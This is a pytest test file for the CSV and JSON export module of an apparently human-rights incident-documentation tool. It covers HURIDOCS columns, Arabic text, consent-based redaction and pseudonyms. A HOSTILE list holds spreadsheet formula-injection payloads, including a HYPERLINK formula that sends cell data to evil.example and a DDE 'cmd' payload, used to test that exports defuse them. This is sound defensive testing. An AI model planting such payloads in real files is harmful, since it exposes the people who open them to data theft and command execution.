"""CSV and JSON exports: HURIDOCS column names, Arabic intact through a real CSV reader,
consent and pseudonyms by audience, spreadsheet formula injection, nothing left behind."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from fieldkit.errors import CancelledError, NotFoundError, ValidationError
from fieldkit.export import tabular
from fieldkit.export.log import list_exports
from fieldkit.export.selection import Selection
from fieldkit.export.tabular import COLUMNS, TABLES, csv_cell, export_tables
from fieldkit.progress import CancelToken
from fieldkit.service import VaultService

from .conftest import NAMED, internal_testimonies

REPO = Path(__file__).resolve().parents[2]

ARABIC_TITLE = "الاعتداء على مصلّين أمام مسجد الحيّ FK-42"
ARABIC_TEXT = ("كنتُ أقف عند باب المسجد، قال أحدهما: «عودوا إلى بلادكم». "
               "اتصلتُ بالشرطة في الساعة 19:52.\nسطر ثانٍ, مع فاصلة و\"اقتباس\".")
INTERNAL_TEXT = "Témoin B: internal only — never outside the organisation"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1"]


def _incident(service: VaultService, tmp_path: Path, *, title: str, confidentiality: str,
              hostile: bool = False) -> str:
    view = service.create_incident(
        title=title, category="hate_crime.physical_assault", occurred="2026-03-13",
        country="FR", place=HOSTILE[0] if hostile else "Quartier Nord",
        description=ARABIC_TEXT, confidentiality=confidentiality)
    ref = view.ref
    service.add_person(ref, pseudonym="ضحية أ", roles=["victim"], name="Real Name Victim",
                       contact="+33 6 12 34 56 78", confidentiality="public")
    service.add_person(ref, pseudonym="Perp 1", roles=["perpetrator"])
    service.add_act(ref, act_type="injury", victims=["ضحية أ"],
                    perpetrators=[("Perp 1", "direct")],
                    description=HOSTILE[1] if hostile else "pushed down the stairs")
    service.add_testimony(ref, witness="شاهد أ", language="ar", consent="public",
                          text=ARABIC_TEXT)
    service.add_testimony(ref, witness="Témoin B", language="fr", consent="internal",
                          text=INTERNAL_TEXT)
    service.add_testimony(ref, witness="Témoin C", language="en", consent="partners",
                          text="\n".join(HOSTILE) if hostile else "partners may read this")
    photo = tmp_path / f"photo-{len(title)}.jpg"
    photo.write_bytes(b"\xff\xd8\xff" + title.encode())
    service.add_evidence(ref, photo, description="لقطة من الفيديو", gps={"lat": 48.85,
                                                                        "lon": -3.7},
                         captured_at="2026-03-13T19:45:00+01:00")
    return service.seal(ref).record_id


@pytest.fixture
def world(service: VaultService, tmp_path: Path) -> dict[str, Any]:
    ids = {"public": _incident(service, tmp_path, title=ARABIC_TITLE, confidentiality="public"),
           "internal": _incident(service, tmp_path, title="Internal-only incident",
                                 confidentiality="internal"),
           "hostile": _incident(service, tmp_path, title=HOSTILE[0], confidentiality="partners",
                                hostile=True)}
    return {"service": service, "ids": ids, "out": tmp_path / "out"}


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for spreadsheets"
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _tables_from_dir(folder: Path) -> dict[str, list[dict[str, str]]]:
    return {t: _read_csv((folder / f"{t}.csv").read_bytes()) for t in TABLES}


# --- CSV ------------------------------------------------------------------------------------

def test_csv_round_trip_keeps_arabic_and_esf_columns(world: dict[str, Any]) -> None:
    service, ids = world["service"], world["ids"]
    out = world["out"].with_name("tables")
    result = export_tables(service, ids=[ids["public"]], audience="internal", fmt="csv", out=out)
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"{t}.csv" for t in TABLES] + ["export.json"])
    tables = _tables_from_dir(out)
    for t in TABLES:
        header = (out / f"{t}.csv").read_bytes().decode("utf-8-sig").split("\r\n", 1)[0]
        assert header.split(",") == [c.name for c in COLUMNS[t]]
    [event] = tables["events"]
    assert event["event_record_number"] == ids["public"]
    assert event["event_title"] == ARABIC_TITLE
    assert event["event_description"] == ARABIC_TEXT  # commas, quotes, a newline: RFC 4180
    assert (event["geographical_term"], event["initial_date"], event["initial_date_type"]) == (
        "FR", "2026-03-13", "day")
    assert event["local_index"] == "hate_crime.physical_assault"
    [act] = tables["acts"]
    assert (act["type_of_act"], act["victim_pseudonym"]) == ("injury", "ضحية أ")
    [inv] = tables["involvements"]
    assert (inv["act"], inv["perpetrator_pseudonym"], inv["degree_of_involvement"]) == (
        act["act_record_number"], "Perp 1", "direct")
    texts = {t["text"] for t in tables["testimonies"]}
    assert ARABIC_TEXT in texts and INTERNAL_TEXT in texts
    [ev] = tables["evidence"]
    assert len(ev["sha256"]) == 64 and ev["gps_longitude"] == "-3.7"  # a number, not escaped
    assert result.counts == {t: len(rows) for t, rows in tables.items()}
    about = json.loads((out / "export.json").read_text(encoding="utf-8"))
    assert about["audience"] == "internal" and about["record_ids"] == [ids["public"]]
    for f in about["files"]:
        assert hashlib.sha256((out / f["name"]).read_bytes()).hexdigest() == f["sha256"]


def test_csv_lines_end_in_crlf_and_quote_per_rfc4180(world: dict[str, Any]) -> None:
    out = world["out"].with_name("rfc")
    export_tables(world["service"], ids=[world["ids"]["public"]], audience="internal",
                  fmt="csv", out=out)
    raw = (out / "events.csv").read_bytes().decode("utf-8-sig")
    assert raw.endswith("\r\n") and "\r\n" in raw.split("\n", 1)[0] + "\n"
    # the description holds a comma, a double quote and a newline: one quoted field,
    # quotes doubled, the embedded newline kept as it is
    assert '"' + ARABIC_TEXT.replace('"', '""') + '"' in raw


def test_partners_csv_has_no_internal_testimony_and_no_real_names(
        world: dict[str, Any]) -> None:
    service, ids = world["service"], world["ids"]
    out = world["out"].with_suffix(".zip")
    export_tables(service, ids=None, audience="partners", fmt="csv", out=out)
    with zipfile.ZipFile(out) as z:
        blob = b"".join(z.read(n) for n in z.namelist())
        tables = {t: _read_csv(z.read(f"{t}.csv")) for t in TABLES}
    text = blob.decode("utf-8-sig", errors="replace")
    assert INTERNAL_TEXT not in text
    assert "Real Name Victim" not in text and "+33 6 12 34 56 78" not in text
    assert "Internal-only incident" not in text  # the incident itself is internal
    assert {e["event_record_number"] for e in tables["events"]} == {ids["public"],
                                                                   ids["hostile"]}
    assert {t["consent"] for t in tables["testimonies"]} == {"public", "partners"}
    victims = [p for p in tables["persons"] if p["roles"] == "victim"]
    assert victims and all(p["name"] == "" and p["address"] == "" and p["pseudonym"]
                           for p in victims)
    withheld = {e["event_record_number"]: e["withheld"] for e in tables["events"]}
    assert "testimonies/t2" in withheld[ids["public"]]


def test_public_export_by_filter_drops_partner_material(world: dict[str, Any]) -> None:
    service, ids = world["service"], world["ids"]
    out = world["out"].with_name("public.json")
    export_tables(service, filters=Selection(country="FR", date_from="2026-03"),
                  audience="public", fmt="json", out=out)
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["record_ids"] == [ids["public"]]
    assert {t["consent"] for t in doc["testimonies"]} == {"public"}
    assert all(e["gps_latitude"] is None for e in doc["evidence"])  # redact() drops GPS
    assert "Real Name Victim" not in out.read_text(encoding="utf-8")


def test_formula_injection_is_defused(world: dict[str, Any]) -> None:
    service, ids = world["service"], world["ids"]
    out = world["out"].with_name("hostile")
    export_tables(service, ids=[ids["hostile"]], audience="internal", fmt="csv", out=out)
    tables = _tables_from_dir(out)
    cells = [v for rows in tables.values() for row in rows for v in row.values()]
    for cell in cells:  # numbers we wrote ourselves (a longitude) may start with "-"
        assert not cell or cell[0] not in "=+-@\t\r＝" or re.fullmatch(r"-\d+(\.\d+)?",
                                                                     cell), cell
    assert tables["events"][0]["event_title"] == "'" + HOSTILE[0]
    assert tables["events"][0]["local_geographical_area"] == "'" + HOSTILE[0]
    assert tables["acts"][0]["remarks"] == "'" + HOSTILE[1]
    # A multi-line cell is defused by its first character; each line is text inside it.
    hostile_testimony = [t for t in tables["testimonies"] if t["consent"] == "partners"]
    assert hostile_testimony[0]["text"] == "'" + "\n".join(HOSTILE)


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("＠x", "'＠x"), ("a=1", "a=1"), ("", ""), (None, ""), (-3.7, "-3.7"),
    (12, "12"), (True, "true"), (["victim", "=cmd"], "victim; =cmd"),
    (["=cmd"], "'=cmd"), ([{"a": "=x"}], '[{"a":"=x"}]'), ("عربي", "عربي")])
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


# --- JSON -----------------------------------------------------------------------------------

def test_json_is_one_document_with_schema_audience_and_entities(
        world: dict[str, Any]) -> None:
    service, ids = world["service"], world["ids"]
    out = world["out"].with_name("all.json")
    result = export_tables(service, ids=[ids["public"], ids["hostile"]], audience="partners",
                           fmt="json", out=out)
    raw = out.read_bytes()
    assert ARABIC_TITLE.encode("utf-8") in raw  # not \u-escaped
    doc = json.loads(raw)
    assert doc["schema"] == tabular.SCHEMA and doc["audience"] == "partners"
    assert doc["record_ids"] == [ids["public"], ids["hostile"]]
    assert doc["device"] == service.vault.device_key.verify_key.key_id
    for t in TABLES:
        assert doc["columns"][t] == [c.name for c in COLUMNS[t]]
        assert all(list(row) == doc["columns"][t] for row in doc[t])
    assert doc["events"][1]["event_title"] == HOSTILE[0]  # JSON is data: no apostrophe
    assert doc["persons"][0]["roles"] == ["victim"]
    assert isinstance(doc["evidence"][0]["custody"], list)
    assert INTERNAL_TEXT not in raw.decode("utf-8")
    assert result.files == [{"name": "all.json", "sha256": hashlib.sha256(raw).hexdigest(),
                             "size": len(raw)}]


# --- errors, cancel, nothing half-written ---------------------------------------------------

def test_internal_incident_asked_for_a_partner_audience_is_an_error(
        world: dict[str, Any]) -> None:
    out = world["out"].with_name("x.json")
    with pytest.raises(ValidationError, match="may not go to"):
        export_tables(world["service"], ids=[world["ids"]["internal"]], audience="partners",
                      fmt="json", out=out)
    assert not out.exists() and list_exports(world["service"]) == []


def test_bad_arguments(world: dict[str, Any], tmp_path: Path) -> None:
    service = world["service"]
    with pytest.raises(ValidationError, match="audience"):
        export_tables(service, audience="everyone", fmt="csv", out=tmp_path / "a")
    with pytest.raises(ValidationError, match="format"):
        export_tables(service, audience="public", fmt="xlsx", out=tmp_path / "a")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    with pytest.raises(ValidationError, match="not an empty folder"):
        export_tables(service, audience="public", fmt="csv", out=tmp_path / "full")
    assert (tmp_path / "full" / "keep.txt").read_text() == "mine"
    with pytest.raises(ValidationError, match="does not exist"):
        export_tables(service, audience="public", fmt="json", out=tmp_path / "no" / "a.json")
    with pytest.raises(NotFoundError):
        export_tables(service, filters=Selection(country="DE"), audience="public", fmt="json",
                      out=tmp_path / "a.json")
    assert list_exports(service) == []


def test_cancel_leaves_nothing(world: dict[str, Any], tmp_path: Path) -> None:
    token = CancelToken()
    token.cancel()
    for out in (tmp_path / "c", tmp_path / "c.zip", tmp_path / "c.json"):
        with pytest.raises(CancelledError):
            export_tables(world["service"], audience="internal",
                          fmt="json" if out.suffix == ".json" else "csv", out=out, cancel=token)
        assert not out.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]
    assert list_exports(world["service"]) == []


def test_failed_log_write_removes_the_export(world: dict[str, Any], tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_a: Any, **_k: Any) -> str:
        raise ValidationError("log refused")

    monkeypatch.setattr(tabular, "record_export", refuse)
    for out in (tmp_path / "d", tmp_path / "d.zip", tmp_path / "d.json"):
        with pytest.raises(ValidationError, match="log refused"):
            export_tables(world["service"], audience="internal",
                          fmt="json" if out.suffix == ".json" else "csv", out=out)
        assert not out.exists()


def test_progress_reaches_the_total(world: dict[str, Any], tmp_path: Path) -> None:
    seen: list[tuple[int, int | None]] = []
    export_tables(world["service"], audience="internal", fmt="json", out=tmp_path / "p.json",
                  progress=lambda done, total: seen.append((done, total)))
    assert seen[-1] == (3, 3)


# --- the mapping is documented --------------------------------------------------------------

def test_every_column_is_in_the_adr() -> None:
    adr = (REPO / "docs" / "adr" / "0012-huridocs-exports.md").read_text(encoding="utf-8")
    documented = set(re.findall(r"^\| `([a-z0-9_]+)` \|", adr, flags=re.M))
    for cols in COLUMNS.values():
        for c in cols:
            assert c.name in documented, c.name
            if c.esf:
                assert c.esf.split()[0] in adr, c.esf


# --- the shared demo vault ------------------------------------------------------------------

@pytest.mark.parametrize("audience", ["partners", "public"])
def test_demo_export_respects_consent_and_pseudonyms(demo_vault: Any, tmp_path: Path,
                                                     audience: str) -> None:
    service = demo_vault.service
    before = len(list_exports(service))
    out_zip = tmp_path / f"demo-{audience}.zip"
    out_json = tmp_path / f"demo-{audience}.json"
    export_tables(service, audience=audience, fmt="csv", out=out_zip)
    export_tables(service, audience=audience, fmt="json", out=out_json)
    with zipfile.ZipFile(out_zip) as z:
        csv_text = "".join(z.read(n).decode("utf-8-sig") for n in z.namelist())
    json_text = out_json.read_text(encoding="utf-8")
    secrets = internal_testimonies() + [n for _k, _p, n, _c in NAMED] + [
        c for _k, _p, _n, c in NAMED]
    assert secrets
    for secret in secrets:
        for text in (csv_text, json_text):
            assert secret not in text
            assert json.dumps(secret)[1:-1] not in text  # nor escaped
    doc = json.loads(json_text)
    assert {t["consent"] for t in doc["testimonies"]} <= {"partners", "public"}
    pseudonyms = {p for _k, p, _n, _c in NAMED}
    assert pseudonyms & {p["pseudonym"] for p in doc["persons"]} or audience == "public"
    assert len(list_exports(service)) == before + 2


def test_export_too_big_for_the_audit_log_is_refused_before_writing(
        world: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from fieldkit.export import log

    monkeypatch.setattr(log, "MAX_EXPORT_RECORDS", 2)  # the registry's limit is 10,000
    with pytest.raises(ValidationError, match="at most 2"):
        export_tables(world["service"], audience="internal", fmt="csv",
                      out=tmp_path / "big.zip")
    assert not (tmp_path / "big.zip").exists() and list_exports(world["service"]) == []
